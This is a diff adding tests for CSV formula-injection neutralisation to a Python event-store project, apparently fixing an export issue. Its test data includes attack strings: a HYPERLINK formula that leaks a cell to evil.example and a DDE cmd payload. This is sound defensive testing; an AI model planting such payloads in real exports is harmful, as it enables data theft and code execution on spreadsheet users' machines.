@@ -46,13 +46,16 @@ from chipclear.store.sql_screening import SCREENING_STREAM, ScreeningListUnavail
 from chipclear.store.sqlite import SQLiteEventStore
 from chipclear.store.transfer import (
     CSV_COLUMNS,
+    FORMULA_STARTS,
     ExportedEvent,
     ExportedStream,
     ExportHeader,
     ExportRecord,
     InvalidExport,
+    neutral_cell,
     read_csv,
     read_jsonl,
+    stored_cell,
     write_csv,
     write_jsonl,
 )
@@ -732,6 +735,83 @@ def test_cli_export_and_import_across_backends(
         assert [r for r in body(target) if isinstance(r, ExportedEvent)] == [
             r for r in body(source) if isinstance(r, ExportedEvent)
         ]
+
+
+# -- spreadsheets: no cell a spreadsheet would run ------------------------------------------------
+# Actors as a careless user or an attacker types them: each would be a formula in a spreadsheet cell.
+FORMULA_ACTORS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+]
+# Cells already starting with the neutralising quote must come back exactly too.
+QUOTED_ACTORS = ["'quoted", "''=twice"]
+
+
+def formula_store(store: EventStore) -> list[str]:
+    """Requests submitted by each actor above, one under a request id starting with `-`."""
+    actors = [*FORMULA_ACTORS, *QUOTED_ACTORS]
+    for number, actor in enumerate(actors):
+        request = make_request(request_id=f"-csv-{number}" if number == 0 else f"csv-{number}")
+        append_all(store, [play(MANUAL, [(timedelta(0), Submit(request=request, actor=actor))])])
+    return actors
+
+
+def test_neutral_cells_round_trip() -> None:
+    for value in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'", "''x", "plain", "", "{}"]:
+        cell = neutral_cell(value)
+        assert not cell.startswith(FORMULA_STARTS), cell
+        assert stored_cell(cell) == value
+    assert neutral_cell("=1+1") == "'=1+1" and neutral_cell("'x") == "''x" and neutral_cell("x") == "x"
+
+
+def test_csv_export_neutralises_formulas_and_imports_back_exactly(
+    event_store: EventStore, tmp_path: Path
+) -> None:
+    """Issue 14: actors starting with `=` landed in CSV cells as formulas. Each such cell now starts with
+    `'`, which a spreadsheet shows as text, and the import takes exactly one off: the same bytes, the
+    same hashes, on SQLite and on PostgreSQL."""
+    with closing(
+        SQLiteEventStore(tmp_path / "source.db", projections=PROJECTIONS, recorder=RECORDER)
+    ) as source:
+        actors = formula_store(source)
+        text = csv_text(source)
+        exported = [r for r in body(source) if isinstance(r, ExportedEvent)]
+
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    for actor in actors:
+        assert "'" + actor in cells
+    assert "'-csv-0" in cells  # the stream id too
+
+    summary = event_store.load(read_csv(text.splitlines(keepends=True)))
+    assert summary.events == len(exported)
+    assert [r for r in body(event_store) if isinstance(r, ExportedEvent)] == exported
+    assert {event.actor for r in exported for event in event_store.read_stream(r.stream_id)} == set(actors)
+    assert event_store.verify().ok
+
+
+def test_cli_csv_export_import_and_audit_with_formula_actors(tmp_path: Path) -> None:
+    """The same through the console script: export to CSV, import into a new store, `audit verify`."""
+    source_path, target_path = tmp_path / "source.db", tmp_path / "target.db"
+    with closing(SQLiteEventStore(source_path, projections=PROJECTIONS, recorder=RECORDER)) as source:
+        actors = formula_store(source)
+    exported = tmp_path / "log.csv"
+    ok(
+        chipclear(
+            cli_env(sqlite_url(source_path), tmp_path), "store", "export", "--format", "csv", "-o", exported
+        )
+    )
+    assert not [
+        cell for row in csv.reader(io.StringIO(exported.read_text())) for cell in row if cell.startswith("=")
+    ]
+    target_env = cli_env(sqlite_url(target_path), tmp_path)
+    ok(chipclear(target_env, "store", "import", exported))
+    verified = ok(chipclear(target_env, "audit", "verify", "--json"))
+    assert json.loads(verified.stdout)["ok"] is True
+    with closing(SQLiteEventStore(target_path, projections=PROJECTIONS)) as target:
+        assert {e.actor for e in target.read_all()} == set(actors)
 
 
 def test_cli_export_to_a_file_appears_only_when_complete(
